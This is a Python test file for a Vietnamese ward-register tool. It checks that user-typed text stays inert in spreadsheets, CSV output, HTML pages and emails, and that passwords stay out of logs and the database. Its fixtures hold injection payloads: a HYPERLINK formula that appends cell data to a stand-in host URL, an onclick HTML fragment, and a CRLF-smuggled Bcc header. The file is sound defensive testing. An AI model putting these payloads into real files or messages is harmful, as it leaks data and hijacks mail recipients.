"""What somebody types stays text: in sheets, in .csv, in mails, and it reaches no log."""

import csv
import io
from datetime import timedelta
from email import message_from_bytes
from email.policy import default
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from shapes import Recipient
from sync.xlsx_make import make_register
from tests.cases import Edits
from tests.folders import make_folder, program
from tests.test_run import DAY, WARD, City

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =")
HARM = 'HYPERLINK("http://vi-du.vn/"&A1,"bấm")<b onclick="x">&amp;'
COLUMNS = ("Tổ", "Họ và tên", "Chức vụ, nghề nghiệp", "Chức danh trong Tổ", "Điện thoại", "Ghi chú")


def hostile(start: str) -> Edits:
    """A ward with such a text in every kind of column, each in a row of its own."""
    cells = [("Thành viên", row, name, start + HARM) for row, name in enumerate(COLUMNS, 4)]
    return Edits(set=[*cells, ("Danh sách tổ", 3, "Số quyết định thành lập", start + HARM)])


@pytest.fixture(params=STARTS, ids=repr)
def city(request: pytest.FixtureRequest, tmp_path: Path) -> City:
    city = City(tmp_path)
    for path in city.wards.iterdir():
        path.unlink()
    make_folder(city.wards, hostile(request.param))
    people = [Recipient(f"Lê\r\nBcc: x@vi-du.vn\r\n\r\n{HARM}", "an@vi-du.vn", "leaders")]
    make_register(tmp_path / "Điều phối.xlsx", city.run(dry_run=True).read.register.units, people)
    return city


def formulas(path: Path) -> list[str]:
    """Every formula of a workbook."""
    book = openpyxl.load_workbook(path)
    cells = (cell for sheet in book for row in sheet.iter_rows() for cell in row)
    return [str(cell.value) for cell in cells if cell.data_type == "f"]


def test_nothing_typed_becomes_a_formula_a_page_or_a_header(city: City) -> None:
    said = city.said
    city.run()
    city.run(DAY + timedelta(days=1))
    for path in (city.wards / WARD, city.home / "Điều phối.xlsx", *city.wards.glob("Cần sửa*")):
        assert not [text for text in formulas(path) if "vi-du.vn" in text or "bấm" in text]
    pages = [path.read_text(encoding="utf-8") for path in city.config.outbox.glob("*.html")]
    assert pages and not any('<b onclick="x">' in page for page in pages)
    mails = [
        message_from_bytes(path.read_bytes(), policy=default)
        for path in city.config.outbox.glob("*.eml")
    ]
    assert mails and not any("Bcc" in mail for mail in mails)
    assert not any("HYPERLINK" in line for line in said)


def test_csv_and_annotations_hold_no_formula_and_no_line_of_their_own(city: City) -> None:
    day = ("--as-of", DAY.isoformat())
    listed = program("check", city.wards, *day, "--format", "csv").stdout
    cells = [value for row in csv.reader(io.StringIO(listed)) for value in row]
    assert any("HYPERLINK" in value for value in cells)
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells)
    notes = program("check", city.wards, *day, "--format", "github").stdout.splitlines()
    assert all(line.startswith("::") or "đơn vị" in line for line in notes)


def test_secrets_reach_neither_the_store_nor_what_is_said(tmp_path: Path) -> None:
    secret, phone = "mat-khau-bi-mat", "0912345678"
    city = City(tmp_path)
    config: Any = city.home / "config.toml"
    text = (
        config.read_text(encoding="utf-8")
        + f'[mail]\nsmtp_password = "{secret}"\nsmtp_user = "u"\n'
    )
    text += f'live = true\nsmtp_host = "127.0.0.1"\nsmtp_port = 9\n[schedule]\nheartbeat = "http://127.0.0.1:9/{secret}"\n'
    config.write_text(text, encoding="utf-8")
    people = [Recipient("Lê An", "an@vi-du.vn", "leaders")]
    make_register(tmp_path / "Điều phối.xlsx", city.run(dry_run=True).read.register.units, people)
    done = program("run", "--config", config, "--as-of", DAY.isoformat())
    assert done.returncode == 0, done.stderr
    doctor = program("doctor", "--config", config)
    for said in (done.stdout, done.stderr, doctor.stdout, doctor.stderr):
        assert secret not in said and phone not in said and "912000005" not in said
    kept = b"".join(path.read_bytes() for path in city.home.glob("so-to.db*"))
    assert secret.encode() not in kept
